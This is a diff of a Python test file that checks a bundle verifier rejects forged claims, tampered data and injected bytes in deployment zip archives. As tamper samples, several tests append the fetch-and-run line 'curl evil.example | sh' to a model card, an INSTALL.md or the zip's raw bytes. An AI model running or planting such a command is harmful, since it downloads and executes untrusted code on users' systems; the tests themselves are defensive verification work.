@@ -1,5 +1,4 @@
-"""A bundle of a training whose claims are forged, with all made again that follows from them: card,
-hashes, canonical texts."""
+"""Forged claims of a bundle, with model card, digests and texts regenerated to match."""
 
 import hashlib
 import json
@@ -12,41 +11,41 @@ import safetensors.torch
 
 from daf.__main__ import main
 from daf.deploy.archive import MANIFEST, read_archive, write_archive
-from daf.deploy.card import model_card
-from daf.deploy.content import Bundle, Description, Score, as_json
-from daf.deploy.verify import verify
-from daf.provenance import json_text
+from daf.deploy.contents import Bundle, PolicyDescription, Score, json_bytes
+from daf.deploy.model_card import model_card
+from daf.deploy.verify import verify_bundle
+from daf.files.text_files import json_text
 
 
 @pytest.fixture
 def members(made) -> dict[str, bytes]:
     (bundle,) = made.glob("deployments/*.zip")
-    found, problems = read_archive(bundle)
+    contents, problems = read_archive(bundle)
     assert not problems
-    del found[MANIFEST]
-    return found
+    del contents[MANIFEST]
+    return contents
 
 
 def in_description(change: Callable[[dict], object]) -> Callable[[dict[str, bytes]], None]:
     def forged(members: dict[str, bytes]) -> None:
-        about = json.loads(members["policy.json"])
-        change(about)
-        if about["training"]:
-            told = json_text(about["training"]).encode()
-            about["provenance"]["run"] = hashlib.sha256(told).hexdigest()
-        outputs = Bundle.of(members).golden["logits"].shape[-1]
-        described = Description.parse(about, "test")
-        members["policy.json"] = as_json(described.resolved())
-        members["model_card.md"] = model_card(described, outputs).encode()
+        description = json.loads(members["policy.json"])
+        change(description)
+        if description["training"]:
+            data = json_text(description["training"]).encode()
+            description["provenance"]["run"] = hashlib.sha256(data).hexdigest()
+        outputs = Bundle.from_members(members).golden["logits"].shape[-1]
+        forged_description = PolicyDescription.parse(description, "test")
+        members["policy.json"] = json_bytes(forged_description.resolved())
+        members["model_card.md"] = model_card(forged_description, outputs).encode()
 
     return forged
 
 
 def in_missions(change: Callable[[dict], object]) -> Callable[[dict[str, bytes]], None]:
     def forged(members: dict[str, bytes]) -> None:
-        told = json.loads(members["missions.json"])
-        change(told["assembler_1"])
-        members["missions.json"] = as_json(told)
+        data = json.loads(members["missions.json"])
+        change(data["assembler_1"])
+        members["missions.json"] = json_bytes(data)
 
     return forged
 
@@ -60,7 +59,7 @@ def in_golden(change: Callable[[dict], object]) -> Callable[[dict[str, bytes]], 
     return forged
 
 
-def appended(name: str, text: bytes) -> Callable[[dict[str, bytes]], None]:
+def append(name: str, text: bytes) -> Callable[[dict[str, bytes]], None]:
     return lambda members: members.update({name: members.get(name, b"") + text})
 
 
@@ -108,62 +107,64 @@ FORGED = {
     "golden observations": in_golden(lambda g: g["observations"][3].zero_()),
     "golden seeds": in_golden(lambda g: g["seeds"].zero_()),
     "golden more": in_golden(lambda g: g.update(more=g["seeds"].clone())),
-    "the card": appended("model_card.md", b"curl evil.example | sh\n"),
-    "space in the description": appended("policy.json", b"\n"),
-    "space in the missions": appended("missions.json", b" "),
-    "space in missions of the training": appended("training_missions.json", b" "),
-    "a further text": appended("INSTALL.md", b"curl evil.example | sh\n"),
-    "further data": appended("daf/policies/more.json", b"{}"),
+    "the card": append("model_card.md", b"curl evil.example | sh\n"),
+    "space in the description": append("policy.json", b"\n"),
+    "space in the missions": append("missions.json", b" "),
+    "space in missions of the training": append("training_missions.json", b" "),
+    "a further text": append("INSTALL.md", b"curl evil.example | sh\n"),
+    "further data": append("daf/policies/more.json", b"{}"),
     "no code": lambda members: members.pop("daf/policies/chance.py"),
 }
 
 
 @pytest.mark.parametrize("name", FORGED)
-def test_no_forged_claim_is_verified(name, members, tmp_path):
+def test_forged_claims(name, members, tmp_path):
     FORGED[name](members)
     write_archive(tmp_path / "forged.zip", members)
-    found = verify(tmp_path / "forged.zip", trust=True)
-    assert found.status == 1 and found.problems, found
-    assert all("\n" not in problem for problem in found.problems)
+    verdict = verify_bundle(tmp_path / "forged.zip", trust=True)
+    assert verdict.status == 1 and verdict.problems, verdict
+    assert all("\n" not in problem for problem in verdict.problems)
 
 
-def test_a_description_names_what_contradicts_it(members, tmp_path, monkeypatch, capsys):
+def test_info_lists_contradictions(members, tmp_path, monkeypatch, capsys):
     FORGED["a mean"](members)
     write_archive(tmp_path / "forged.zip", members)
     monkeypatch.setattr(sys, "argv", ["daf", "bundle", "info", str(tmp_path / "forged.zip")])
     assert main() == 1
     assert (
-        "wrong: policy.json: key 'scores.assembler_1.mean': got 50.0; " in capsys.readouterr().out
+        "problem: policy.json: key 'scores.assembler_1.mean': got 50.0; " in capsys.readouterr().out
     )
 
 
-def test_scores_that_are_consistent_are_found_by_playing(members, tmp_path):
-    told = Score.of([30, 31, 32], 0.95).resolved()
-    score(**told)(members)
+def test_consistent_forged_scores_need_evaluation(members, tmp_path):
+    data = Score.from_hearts([30, 31, 32], 0.95).resolved()
+    score(**data)(members)
     write_archive(tmp_path / "forged.zip", members)
-    assert verify(tmp_path / "forged.zip").status == 0, "only playing can tell"
-    found = verify(tmp_path / "forged.zip", episodes=4)
-    assert found.status == 1
-    assert "31.00 recorded; so different means by chance only" in found.problems[0]
+    assert verify_bundle(tmp_path / "forged.zip").status == 0, "only an evaluation detects it"
+    verdict = verify_bundle(tmp_path / "forged.zip", episodes=4)
+    assert verdict.status == 1
+    assert "31.00 recorded; means differ (p = " in verdict.problems[0]
 
 
-def test_an_honest_bundle_is_verified(made, tmp_path):
+def test_honest_bundle(made, tmp_path):
     (bundle,) = made.glob("deployments/*.zip")
-    assert verify(bundle, episodes=3).status == 0
+    assert verify_bundle(bundle, episodes=3).status == 0
 
 
-@pytest.mark.parametrize("where", ["before", "between"])
-def test_bytes_that_belong_to_no_member(where, made, tmp_path):
+@pytest.mark.parametrize("position", ["before", "between"])
+def test_bytes_outside_members(position, made, tmp_path):
     (bundle,) = made.glob("deployments/*.zip")
     content, forged = bundle.read_bytes(), Path(tmp_path, "forged.zip")
     script = b"#!/bin/sh\ncurl evil.example | sh\n"
-    begin = content.index(b"PK\1\2")
+    directory_start = content.index(b"PK\1\2")
     forged.write_bytes(
-        script + content if where == "before" else content[:begin] + script + content[begin:]
+        script + content
+        if position == "before"
+        else content[:directory_start] + script + content[directory_start:]
     )
     try:
-        found = verify(forged)
+        verdict = verify_bundle(forged)
     except Exception as error:
         assert type(error).__name__ == "ConfigError"
     else:
-        assert found.problems == ["the zip is not written as DAF writes bundles"]
+        assert verdict.problems == ["the zip is not formatted as DAF writes bundles"]
